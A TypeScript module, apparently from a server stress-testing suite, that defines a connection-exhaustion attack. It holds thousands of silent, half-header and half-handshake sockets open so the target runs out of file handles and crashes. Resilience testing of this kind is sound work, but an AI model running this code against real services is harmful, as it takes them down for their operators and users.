import { connect, type Socket } from "node:net";
import { sleep } from "../bench/row.ts";
import type { Attack } from "./against.ts";

/** More than the server takes. */
const CONNECTIONS = 13_000;
const AT_ONCE = 200;

/** Each of them costs the server a file; the embedded database ends the process when it cannot open one. */
export const silent: Attack = {
  name: "silent",
  what: `${CONNECTIONS} connections: a third silent, a third with half a head, a third with half a handshake`,
  async run({ url, seconds, say }) {
    const { hostname, port, host } = new URL(url);
    const until = performance.now() + seconds * 1_000;
    const firsts = [
      "",
      `GET /healthz HTTP/1.1\r\nHost: ${host}\r\n`,
      `GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`,
    ];
    const open = new Set<Socket>();
    let opened = 0;
    let most = 0;
    while (performance.now() < until) {
      for (let n = 0; n < AT_ONCE && open.size < CONNECTIONS; n++) {
        const socket = connect(Number(port), hostname).resume();
        open.add(socket);
        socket.on("error", () => {});
        socket.once("close", () => open.delete(socket));
        socket.write(firsts[opened++ % firsts.length]!);
      }
      most = Math.max(most, open.size);
      await sleep(50);
    }
    for (const socket of open) socket.destroy();
    say(`${opened} connections were opened, at most ${most} at the same time`);
  },
};
